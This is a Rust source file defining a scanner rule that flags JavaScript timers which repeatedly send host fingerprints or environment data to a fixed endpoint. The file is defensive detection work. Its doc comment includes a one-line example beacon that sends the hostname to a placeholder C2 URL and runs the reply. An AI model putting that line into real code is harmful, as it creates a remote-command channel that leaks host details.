use super::{Cx, Hit};
use crate::api;
use portcullis_core::declare_rule;

declare_rule! {
    /// ## What it does
    /// Finds timers (`setInterval`, a re-armed `setTimeout`, `cron.schedule`) whose callback
    /// makes a network request to a hard-coded or hidden endpoint while the file also
    /// fingerprints the host (`os.hostname()`, `os.userInfo()`, `os.networkInterfaces()`) or
    /// reads the environment.
    ///
    /// ## Why is this bad?
    /// A beacon that reports the host every few minutes is a command-and-control channel:
    /// the response can carry the next command. Polling nodes poll the endpoint the user
    /// configured, with no need for the host's name or user.
    ///
    /// ## Example
    /// ```js
    /// setInterval(() => fetch(C2 + '?h=' + os.hostname()).then(r => r.text()).then(run), 36e5);
    /// ```
    ///
    /// ## Use instead
    /// Poll only endpoints that come from the node's configuration, and never send host
    /// facts.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - MITRE ATT&CK T1071 Application Layer Protocol
    pub static RULE = {
        id: "behaviour/phone-home-timer",
        title: "Timer that beacons host facts",
        category: SupplyChain,
        severity: Critical,
        confidence: High,
        summary: "A timer repeatedly sends host or environment facts to a fixed endpoint",
        cwe: [506],
        signals: [Exfiltration],
        fixtures: [
            pos "crates/behaviour/fixtures/phone-home-timer/pos/beacon.js",
            neg "crates/behaviour/fixtures/phone-home-timer/neg/node-red-poller.js",
        ],
    }
}

pub fn check(cx: &Cx<'_>) -> Vec<Hit> {
    let f = cx.facts;
    let fingerprint = f
        .calls
        .iter()
        .any(|c| api::is_fingerprint(&c.callee) && c.callee != "os.platform")
        || f.env_reads
            .iter()
            .any(|e| e.name.is_none() || e.name.as_deref().is_some_and(api::is_sensitive_env));
    if !fingerprint {
        return Vec::new();
    }
    for t in f.calls.iter().filter(|c| api::is_timer(&c.callee)) {
        let Some(cb) = t.args.iter().find(|a| a.is_function) else {
            continue;
        };
        let net = f.calls_within(cb.span).find(|c| {
            api::is_network(&c.callee)
                && c.args
                    .first()
                    .and_then(|a| a.prefix.as_deref())
                    .is_some_and(|p| p.contains("://"))
        });
        if let Some(net) = net {
            return vec![Hit::new(
                &RULE,
                t.span,
                format!(
                    "`{}` calls `{}` repeatedly in a file that collects host facts",
                    t.callee, net.callee
                ),
            )];
        }
    }
    Vec::new()
}
